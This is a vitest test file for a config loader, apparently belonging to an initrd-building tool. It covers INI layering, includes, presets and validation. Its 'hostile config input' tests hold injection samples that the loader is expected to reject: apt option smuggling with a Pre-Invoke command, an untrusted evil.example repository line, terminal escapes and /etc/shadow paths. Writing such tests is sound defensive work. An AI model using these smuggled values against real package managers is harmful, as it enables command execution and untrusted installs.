import { mkdtemp, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, beforeAll } from 'vitest';
import { UserError } from '@mkinitrd-pkg/common';
import { loadConfig, listPresets } from './load.js';
import { parseIniAssignments } from './ini-lines.js';

let dir: string;
const base = `[Distribution]
Distribution=debian
Release=bookworm
Mirror=http://deb.debian.org/debian
[Content]
Packages=systemd udev
KernelModules=ext4
 -ext4
[Output]
CompressOutput=zstd
`;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mkinitrd-pkg-config-'));
  await mkdir(join(dir, 'presets'));
  await mkdir(join(dir, 'usr.d'));
  await mkdir(join(dir, 'etc.d'));
  await writeFile(join(dir, 'presets', 'mini.conf'), base);
  await writeFile(join(dir, 'usr.d', '10-extra.conf'), '[Content]\nPackages=lvm2\n[Output]\nCompressOutput=xz\n');
  await writeFile(join(dir, 'etc.d', '10-extra.conf'), '[Content]\nPackages=mdadm\n');
  await writeFile(join(dir, 'etc.d', '20-more.conf'), '[Output]\nCompressOutput=gzip\n');
});

const opts = () => ({ presetDirs: [join(dir, 'presets')], dropInDirs: [join(dir, 'usr.d'), join(dir, 'etc.d')] });

describe('loadConfig', () => {
  it('layers preset < /usr/lib < /etc (same name masks) < --config < flags', async () => {
    const cfgFile = join(dir, 'cli.conf');
    await writeFile(cfgFile, '[Content]\nPackages=\nPackages=busybox\n[Output]\nCompressOutput=lz4\n');
    const withEtc = await loadConfig({ preset: 'mini', ...opts() });
    // /etc's 10-extra.conf masks /usr/lib's: mdadm, not lvm2; 20-more sets gzip.
    expect(withEtc.packages).toEqual(['systemd', 'udev', 'mdadm']);
    expect(withEtc.compression).toBe('gzip');
    expect(withEtc.kernelModules).toEqual(['ext4', '-ext4']);
    const all = await loadConfig({ preset: 'mini', ...opts(), configFiles: [cfgFile], overrides: { compression: 'none', package: ['kmod'] } });
    expect(all.packages).toEqual(['busybox', 'kmod']);
    expect(all.compression).toBe('none');
  });

  it('names file and line of an unknown key or section', async () => {
    const bad = join(dir, 'bad.conf');
    await writeFile(bad, '[Content]\nPackages=a\nPackagez=b\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [bad] })).rejects.toThrow(`${bad}:3: unknown key Packagez= in [Content]`);
    await writeFile(bad, '\n[Contents]\nPackages=a\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [bad] })).rejects.toThrow(`${bad}:3: unknown section [Contents]`);
    await writeFile(bad, '[Output]\nCompressOutput=brotli\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [bad] })).rejects.toThrow(/bad.conf:2: Output.CompressOutput: unknown compression "brotli"/);
  });

  it('reads [Build] ToolsTree= (default, host or a preset name, never a path) and ToolsTreePackages=', async () => {
    const plain = await loadConfig({ preset: 'mini', ...opts() });
    expect(plain.toolsTree).toBe('default');
    expect(plain.toolsTreePackages).toEqual([]);
    const tools = join(dir, 'tools.conf');
    await writeFile(tools, '[Build]\nToolsTree=debian-12\nToolsTreePackages=kmod squashfs-tools\n');
    const named = await loadConfig({ preset: 'mini', ...opts(), configFiles: [tools] });
    expect(named.toolsTree).toBe('debian-12');
    expect(named.toolsTreePackages).toEqual(['kmod', 'squashfs-tools']);
    expect((await loadConfig({ preset: 'mini', ...opts(), configFiles: [tools], overrides: { 'tools-tree': 'host' } })).toolsTree).toBe('host');
    await writeFile(tools, '[Build]\nToolsTree=/etc/shadow\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [tools] })).rejects.toThrow(/tools.conf:2: Build.ToolsTree: invalid tools tree "\/etc\/shadow"/);
    await expect(loadConfig({ preset: 'mini', ...opts(), overrides: { 'tools-tree': '../x.conf' } })).rejects.toThrow(/invalid tools tree/);
  });

  it('reads KernelModulesCompression= (keep by default, none, nothing else)', async () => {
    expect((await loadConfig({ preset: 'mini', ...opts() })).kernelModulesCompression).toBe('keep');
    const form = join(dir, 'form.conf');
    await writeFile(form, '[Content]\nKernelModulesCompression=none\n');
    expect((await loadConfig({ preset: 'mini', ...opts(), configFiles: [form] })).kernelModulesCompression).toBe('none');
    await writeFile(form, '[Content]\nKernelModulesCompression=zip\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [form] })).rejects.toThrow(/form.conf:2: Content.KernelModulesCompression: unknown module compression "zip"/);
  });

  it('rejects an unknown preset with the list of known ones', async () => {
    const error = await loadConfig({ preset: 'nope', ...opts() }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UserError);
    expect((error as UserError).code).toBe('PRESET_NOT_FOUND');
    expect((error as UserError).hint).toContain('mini');
  });

  it('rejects an unknown compression flag', async () => {
    await expect(loadConfig({ preset: 'mini', ...opts(), overrides: { compression: 'rar' } })).rejects.toThrow('unknown compression "rar"');
  });

  it('lists presets', async () => {
    expect((await listPresets([join(dir, 'presets')])).map((p) => p.name)).toEqual(['mini']);
  });

  it('[Config] Include= reads a file relative to the includer in place, and refuses a cycle', async () => {
    await mkdir(join(dir, 'presets', 'include'), { recursive: true });
    await writeFile(join(dir, 'presets', 'include', 'mods.conf'), '[Content]\nKernelModules=kernel/drivers/ata/ -pata_legacy\n');
    await writeFile(join(dir, 'presets', 'inc.conf'), base.replace('[Content]', '[Config]\nInclude=include/mods.conf\n[Content]'));
    const config = await loadConfig({ preset: 'inc', ...opts() });
    // The included lines come where Include= stands: the preset's own lines follow them.
    expect(config.kernelModules).toEqual(['kernel/drivers/ata/', '-pata_legacy', 'ext4', '-ext4']);
    expect(config.packages).toEqual(['systemd', 'udev', 'mdadm']);

    const loop = join(dir, 'loop.conf');
    await writeFile(loop, '[Config]\nInclude=loop.conf\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [loop] })).rejects.toThrow(`${loop}:2: Include=loop.conf includes itself (loop.conf → loop.conf)`);
    const missing = join(dir, 'missing.conf');
    await writeFile(missing, '[Config]\nInclude=nowhere.conf\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [missing] })).rejects.toThrow(`config file included from ${missing} not found: ${join(dir, 'nowhere.conf')}`);
    await writeFile(missing, '[Config]\nIncludes=x.conf\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [missing] })).rejects.toThrow(`${missing}:2: unknown key Includes= in [Config]`);
  });

  it('every shipped preset takes its kernel modules from the one shared set', async () => {
    const shared = await loadConfig({ preset: 'debian', dropInDirs: [] });
    expect(shared.kernelModules).toEqual(expect.arrayContaining(['kernel/drivers/scsi/', 'kernel/drivers/md/', 'i2c_hid_acpi', 'tpm_tis']));
    for (const p of await listPresets()) {
      const config = await loadConfig({ preset: p.name, dropInDirs: [] });
      expect(config.sources.some((s) => s.endsWith('include/generic-modules.conf')), p.name).toBe(true);
    }
  });

  it('resolves the shipped presets without network', async () => {
    const presets = await listPresets();
    for (const p of presets) {
      const config = await loadConfig({ preset: p.name, dropInDirs: [] });
      expect(config.packages.length).toBeGreaterThan(0);
    }
    expect(presets.map((p) => p.name)).toContain('debian');
  });
});

describe('parseIniAssignments', () => {
  it('rejects garbage lines with file:line', () => {
    expect(() => parseIniAssignments('[A]\njunk\n', 'f.conf')).toThrow('f.conf:2: expected "Key=Value"');
    expect(() => parseIniAssignments('K=v\n', 'f.conf')).toThrow('f.conf:1: assignment outside of a [Section]');
  });
});

describe('hostile config input', () => {
  const conf = async (name: string, text: string | Buffer) => {
    const path = join(dir, name);
    await writeFile(path, text);
    return path;
  };

  it('a FIFO given as --config is refused at once, not read forever', async () => {
    const { execFileSync } = await import('node:child_process');
    const fifo = join(dir, 'fifo.conf');
    execFileSync('mkfifo', [fifo]);
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [fifo] })).rejects.toThrow(/fifo\.conf is a FIFO/);
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [dir] })).rejects.toThrow(/is a directory/);
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: ['/dev/zero'] })).rejects.toThrow(/\/dev\/zero is not a regular file/);
  });

  it('a 10 MB line is not echoed back', async () => {
    const big = await conf('big.conf', '[Content]\n' + 'x'.repeat(900_000) + '\n');
    const error = await loadConfig({ preset: 'mini', ...opts(), configFiles: [big] }).catch((e: unknown) => e as UserError);
    expect(error).toBeInstanceOf(UserError);
    expect((error as UserError).message.length).toBeLessThan(400);
    const huge = await conf('huge.conf', '[Content]\nPackages=' + 'x'.repeat(10_000_000) + '\n');
    await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [huge] })).rejects.toThrow(/too large/);
  });

  it('NUL, newlines and options never reach apt: rejected with file:line', async () => {
    const cases: Array<[string, RegExp]> = [
      ['[Content]\nPackages=kmod a\0b\n', /:2: Content\.Packages: control characters are not allowed: "a\\u0000b"/],
      ['[Distribution]\nMirror=http://deb.debian.org/debian\n  deb [trusted=yes] http://evil.example/ ./\n', /:2: Distribution\.Mirror: must be one line/],
      ['[Distribution]\nMirror=http://x/\x1b[2J\n', /control characters/],
      ['[Content]\nPackages=a\u009b2Jb\n', /control characters are not allowed: "a\\u009b2Jb"/],
      ['[Content]\nPackages=-oDPkg::Pre-Invoke::=touch/tmp/pwned\n', /invalid package name "-oDPkg/],
      ['[Content]\nKernelPackage=--reinstall\n', /invalid package name/],
      ['[Distribution]\nRelease=bookworm main\n', /invalid name "bookworm main"/],
      ['[Distribution]\nMirror=/etc/passwd\n', /expected a URL/],
      ['[Distribution]\nArchitecture=amd64\n', /:2: Distribution\.Architecture: unknown architecture "amd64"/],
      ['[Distribution]\nRpmDatabase=var/lib/rpm\n', /RpmDatabase: expected an absolute path/],
      ['[Content]\nBootstrapPackages=-oDPkg::X=1\n', /invalid package name/],
    ];
    for (const [i, [text, message]] of cases.entries()) {
      const path = await conf(`hostile-${i}.conf`, text);
      await expect(loadConfig({ preset: 'mini', ...opts(), configFiles: [path] }), text).rejects.toThrow(message);
    }
  });

  it('the same rules hold for command-line flags', async () => {
    await expect(loadConfig({ preset: 'mini', ...opts(), overrides: { mirror: 'http://a/\ndeb http://b/ ./' } })).rejects.toThrow(/--mirror: must be one line/);
    await expect(loadConfig({ preset: 'mini', ...opts(), overrides: { package: ['-oAPT::Get::AllowUnauthenticated=1'] } })).rejects.toThrow(/invalid package name/);
    // Ordinary names still pass: apt's name=version and name/release, RPM names.
    const ok = await loadConfig({ preset: 'mini', ...opts(), overrides: { package: ['libc6=2.36-9', 'systemd/bookworm-backports', 'kernel-core', 'g++', 'libstdc++6:amd64'] } });
    expect(ok.packages).toContain('g++');
  });

  it('a preset name taken from data is never read as a path', async () => {
    const { findPreset } = await import('./load.js');
    const outside = await conf('outside.conf', base);
    await expect(findPreset(outside, opts().presetDirs)).resolves.toEqual({ name: 'outside', path: outside });
    for (const id of [outside, '../presets/mini', '/etc/shadow', 'mini.conf', 'mini/..']) {
      await expect(findPreset(id, opts().presetDirs, { nameOnly: true }), id).rejects.toThrow(/invalid preset name|unknown preset/);
    }
    await expect(findPreset('mini', opts().presetDirs, { nameOnly: true })).resolves.toMatchObject({ name: 'mini' });
    await expect(loadConfig({ preset: outside, presetNameOnly: true, ...opts() })).rejects.toThrow(/invalid preset name/);
  });

  it('distribution facts are data: BootstrapPackages=, KernelModulePackages=, RpmDatabase=, Architecture=', async () => {
    const defaults = await loadConfig({ preset: 'mini', ...opts() });
    expect(defaults).toMatchObject({ bootstrapPackages: [], kernelModulePackages: [], rpmDatabase: '/usr/lib/sysimage/rpm', architecture: 'x86-64' });
    const path = await conf('facts.conf', '[Distribution]\nArchitecture=arm64\nRpmDatabase=/var/lib/rpm\n[Content]\nBootstrapPackages=usr-is-merged\nKernelModulePackages=linux-image-* linux-modules-*\n');
    const config = await loadConfig({ preset: 'mini', ...opts(), configFiles: [path] });
    expect(config).toMatchObject({ bootstrapPackages: ['usr-is-merged'], kernelModulePackages: ['linux-image-*', 'linux-modules-*'], rpmDatabase: '/var/lib/rpm', architecture: 'arm64' });
  });
});
